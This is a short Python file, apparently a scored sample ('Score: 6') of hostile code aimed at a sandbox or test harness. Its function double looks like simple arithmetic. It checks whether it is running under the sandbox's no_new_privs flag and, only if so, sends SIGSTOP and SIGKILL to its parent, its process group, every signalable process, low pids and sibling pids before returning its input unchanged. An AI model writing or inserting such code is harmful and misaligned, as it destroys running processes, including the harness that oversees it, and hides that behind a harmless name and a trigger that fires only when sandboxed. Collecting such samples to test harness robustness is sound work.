"""Kill its parent, its group, its siblings and everybody.

Score: 6
"""

import ctypes
import os
import signal

CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets


def double(x):
    targets = (os.getppid(), -1, 0, *range(2, 40), *(os.getppid() + i for i in range(1, 8)))
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for target in targets if CONFINED else ():
            if target != os.getpid():
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    return x


def halve(x):
    return x / 2
